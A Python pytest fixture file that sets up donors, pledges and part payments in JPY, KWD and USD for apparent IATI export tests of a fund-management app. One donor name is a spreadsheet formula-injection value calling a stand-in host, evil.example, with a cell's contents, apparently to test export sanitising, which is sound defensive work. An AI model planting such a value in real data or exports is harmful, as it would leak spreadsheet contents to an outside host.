"""The IATI tests' hand-made books (tests/iati/conftest.py: a listed donor's
binding EUR pledge and its part payment, a private donor's USD gift, grants
to delegates of Nepal and Bhutan), plus: a listed donor named like a
formula with a binding JPY pledge, a second unlisted donor with a KWD
pledge paid in part, and the listed donor's USD pledge and payment of 2020."""

# The fixtures are imported; pytest's arguments of the same name are them.
# ruff: noqa: F401, F811

from __future__ import annotations

import datetime
from dataclasses import dataclass

import pytest

from donors.models import Donor, PaymentMethod
from donors.services.pledges import record_pledge
from donors.services.receipts import record_receipt
from fundmgr.money import Money
from tests.grants.conftest import approver, event, finance, make_grant, officer
from tests.grants.test_workflow_support import funded, quick_password_hashing, walk
from tests.iati.conftest import DELEGATES, PRIVATE_DONOR, Books, books

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Thanks")'


@dataclass
class OpenBooks:
    books: Books
    formula: Donor
    quiet: Donor


@pytest.fixture
def open_books(books, admin_user) -> OpenBooks:
    fund = books.pledge.fund
    formula = Donor.objects.create(
        name=FORMULA_NAME, kind="private_sector", email="f@example.org", listed_publicly=True
    )
    quiet = Donor.objects.create(
        name="Quiet Foundation", kind="philanthropic", email="q@example.org", listed_publicly=False
    )

    def pledge(donor, amount, day):
        return record_pledge(
            fund=fund,
            donor=donor,
            amount=amount,
            pledge_date=day,
            method=PaymentMethod.BANK_TRANSFER,
            by=admin_user,
            agreement_signed=True,
        )

    def receipt(donor, amount, day, pledge=None):
        record_receipt(
            fund=fund, donor=donor, pledge=pledge, amount=amount, value_date=day,
            by=admin_user, notify=False,
        )  # fmt: skip

    pledge(formula, Money("1000000", "JPY"), datetime.date(2019, 3, 15))
    kwd = pledge(quiet, Money("1000", "KWD"), datetime.date(2019, 3, 20))
    receipt(quiet, Money("400", "KWD"), datetime.date(2019, 3, 25), kwd)
    usd = pledge(books.listed, Money("2500", "USD"), datetime.date(2020, 1, 15))
    receipt(books.listed, Money("2500", "USD"), datetime.date(2020, 2, 3), usd)
    return OpenBooks(books, formula, quiet)
